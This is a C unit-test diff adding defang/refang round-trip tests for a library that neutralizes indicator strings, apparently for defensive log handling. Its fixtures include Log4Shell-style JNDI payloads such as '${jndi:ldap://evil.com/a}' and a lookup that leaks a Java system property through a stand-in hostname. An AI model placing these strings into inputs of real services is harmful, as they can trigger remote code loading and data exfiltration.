@@ -277,6 +277,45 @@ static void test_defang_rules(void **state) {
     check_defang("a..b.com", "a[.][.]b[.]com"); /* malformed, still defanged */
     check_defang("$$", "$$");
     check_defang("", "");
+    /* Unambiguous: a literal "$\{", "[.]" or "\x41" differs from defang's own. */
+    check_defang("lit $\\{ and [.] and [:] and \\x41", "lit $\\\\{ and \\[.] and \\[:] and \\\\x41");
+    check_defang("[.] [x]", "\\[.] [x]");
+    /* Property names are no hosts. */
+    check_defang("${sys:user.name}", "$\\{sys:user.name}");
+    check_defang("ldap://${sys:java.version}.x.example/a",
+                 "ldap[:]//$\\{sys:java.version}[.]x[.]example/a");
+    check_defang("sys:user.name", "sys:user.name");     /* an exfiltration key */
+    check_defang("dns:evil.example", "dns:evil[.]example"); /* not a property lookup */
+}
+
+/* defuse_refang() reads every defang output back exactly: random texts over
+ * the bytes the escapes involve, and the rule cases above. */
+static void test_refang_roundtrip(void **state) {
+    (void)state;
+    static const char alpha[] = "${}\\[].:/axX41evilcom sys\x01\x1b\xc2\x9b\xe2\x80\xae\xff\x00";
+    uint64_t x = 0x9E3779B97F4A7C15ull;
+    char in[48], *d = malloc(48 * 4 + 1), *r = malloc(48 * 4 + 1);
+    assert_non_null(d);
+    assert_non_null(r);
+    for (int iter = 0; iter < 200000; iter++) {
+        x ^= x << 13, x ^= x >> 7, x ^= x << 17;
+        size_t n = x % sizeof in;
+        for (size_t i = 0; i < n; i++) {
+            x ^= x << 13, x ^= x >> 7, x ^= x << 17;
+            in[i] = alpha[x % (sizeof alpha - 1)];
+        }
+        size_t dl = defuse_defang(in, n, d, 48 * 4 + 1);
+        assert_true(dl <= 48 * 4);
+        size_t rl = defuse_refang(d, dl, r, 48 * 4 + 1);
+        if (rl != n || memcmp(r, in, n) != 0)
+            fail_msg("round trip of %zu bytes failed: defanged \"%s\"", n, d);
+    }
+    free(d);
+    free(r);
+    char out[64];
+    const char *dfd = "$\\{jndi:ldap[:]//evil[.]com/a}";
+    assert_int_equal(defuse_refang(dfd, strlen(dfd), out, sizeof out), 25);
+    assert_string_equal(out, "${jndi:ldap://evil.com/a}");
 }
 
 static void test_defang_truncation(void **state) {
@@ -403,6 +442,7 @@ int main(void) {
         cmocka_unit_test(test_long_fields),
         cmocka_unit_test(test_defang_rules),
         cmocka_unit_test(test_defang_truncation),
+        cmocka_unit_test(test_refang_roundtrip),
         cmocka_unit_test(test_direct_matches_jansson),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
